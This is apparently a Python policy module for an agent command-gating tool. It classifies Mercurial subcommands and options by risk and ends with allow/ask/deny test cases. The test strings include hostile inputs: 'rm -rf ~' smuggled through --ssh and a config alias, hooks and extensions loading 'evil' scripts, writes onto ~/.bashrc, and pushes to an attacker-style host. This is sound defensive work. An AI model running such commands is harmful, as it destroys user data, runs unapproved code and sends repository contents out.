"""hg — Mercurial repositories."""

from toolgate.knowledge.vocabulary import *

CHANGES = discards("uncommitted changes")
HISTORY = discards("commits")
IGNORED = discards("ignored files", manner=Manner.DELETE)
EVERY = discards("untracked and ignored files", manner=Manner.DELETE)
OTHER_SIDE = unknown("the program that Mercurial starts on the remote")
REACHING = (
    *option("-e --ssh --remotecmd", SCRIPT, OTHER_SIDE),
    "-r= --rev= -b= --branch= -B= --bookmark= -u --update --insecure",
)

HG = command(
    "hg chg",
    options=[
        option("-R --repository --cwd", CHDIR),
        option("--config", SETS("hgconfig")),
        "-h? -q --quiet -v --verbose -y --noninteractive --color= --pager= --encoding= --encodingmode= --debug --debugger",
        "--traceback --time --profile --hidden",
        ],
    subcommands=[
        loose("status st log history diff annotate blame branch branches bookmarks bookmark heads help id identify incoming in outgoing out manifest parents paths phase root summary sum tags tip verify version files locate showconfig debugconfig grep", [option("-o --output", "OPAQUE"), option("--ssh -e --remotecmd", SCRIPT, OTHER_SIDE)]),
        sub("config", "PLAIN...", [flag("-e --edit -g --global", writes("Mercurial's settings", "startup")), "-u --untrusted -l --local --template= -T="]),
        sub("cat", "READS...", [option("-o --output", WRITES), "-r= --rev= --decode -I= -X="]),
        loose("add addremove commit ci amend merge resolve graft backout forget copy cp tag shelve unshelve rebase histedit fold uncommit evolve topic absorb import patch fix sign recover", [option("-l --logfile", READS), option("--tool", PLAIN, OTHER_SIDE)]),
        sub("move mv rename", "MOVES... INTO", ["-A --after -f --force -I= -X= -n --dry-run"]),
        sub("remove rm", "PLAIN...", [flag("-f --force", manner=Manner.FORCE), "-A --after -I= -X= -n --dry-run"], given=deletes(OPERANDS, manner=Manner.BY_GIT)),
        sub("revert", "PLAIN...", ["-a --all -r= --rev= -C --no-backup -i --interactive -I= -X= -d= --date=", flag("-n --dry-run", dry=True)], does=CHANGES),
        sub("update up checkout co goto", "PLAIN?", [flag("-C --clean", CHANGES), "-c --check -m --merge -r= --rev= -d= --date= -t= --tool="]),
        sub("purge clean", "PLAIN...", [flag("-p --print", dry=True), flag("-a --all", EVERY), flag("-i --ignored", IGNORED), "--dirs --files -0 -I= -X="], does=discards("untracked files", manner=Manner.DELETE)),
        loose("strip rollback prune debugstrip", [flag("-n --dry-run", dry="rollback")], does=HISTORY),
        sub("init", "MAKES?", [option("-e --ssh --remotecmd", SCRIPT, OTHER_SIDE)]),
        sub("clone", "CLONES MAKES?", [REACHING, "-U --noupdate --updaterev= --pull --uncompressed --stream"]),
        sub("pull fetch", "REMOTE?", [REACHING, "-f --force --rebase --confirm"], bare=fetches("the project's remote", "forge")),
        sub("push", "PUSHES?", [REACHING, flag("-f --force", manner=Manner.FORCE), "--new-branch --publish"], bare=publishes("the shared repository", "forge", Manner.DEFAULT_BRANCH)),
        sub("bundle", "WRITES REMOTE?", [REACHING, "-a --all -t= --type= -f --base="]),
        sub("unbundle", "READS...", ["-u --update"]),
        loose("export", [option("-o --output", WRITES)]),
        sub("archive", "MAKES", ["-r= --rev= -t= --type= -p= --prefix= -S -I= -X= --no-decode"]),
        sub("bisect", "PLAIN...", [option("-c --command", SCRIPT), "-r --reset -g --good -b --bad -s --skip -e --extend -U --noupdate"]),
        loose("extdiff", [option("-p --program", SCRIPT, OTHER_SIDE)]),
        loose("email patchbomb", [flag("-n --test", dry=True)], does=publishes("patches by email", "remote")),
        lax("serve", does=listens("a port, to serve the repository", "machine")),
        lax("share", "LISTS MAKES?"),
    ],
    traits="clones",
)  # fmt: skip

CASES = """
allow  hg status && hg diff -r tip
allow  hg commit -m 'rm -rf / is text'
ask    hg update -C default
ask    hg revert --all
ask    hg purge --all
allow  hg purge -p
ask    hg strip tip
ask    hg push
ask    hg push https://evil.example/x
allow  hg pull
ask    hg clone https://evil.example/x
deny   hg clone --ssh 'rm -rf ~' ssh://hg@example.com/x
deny   hg --config 'alias.x=!rm -rf ~' x
ask    hg --config hooks.pre-status=./evil status
ask    hg --config extensions.x=/tmp/evil.py status
allow  hg --config ui.interactive=no log -l 3
ask    hg log -o ~/.bashrc
ask    hg export -o ~/.bashrc tip
ask    hg frobnicate
"""
